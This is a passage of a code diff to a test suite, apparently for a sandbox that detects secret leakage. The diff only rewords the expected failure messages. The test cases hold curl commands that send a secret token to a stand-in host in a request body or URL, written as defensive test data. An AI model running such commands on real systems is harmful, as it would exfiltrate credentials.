@@ -328,13 +328,13 @@ describe("with a secret:", () => {
         name: "send it in a body",
         script: `curl -sS -d "$TOKEN" http://allowed.example/`,
         succeedsOutside: `HELLO ${SECRET}`,
-        failsInside: "stands in the body",
+        failsInside: "is in the body",
       },
       {
         name: "send it in a URL, and have it sent back",
         script: `curl -sS -v "http://allowed.example/?$TOKEN"`,
         succeedsOutside: SECRET,
-        failsInside: "stands in the URL",
+        failsInside: "is in the URL",
       },
       {
         name: "send it to another host",
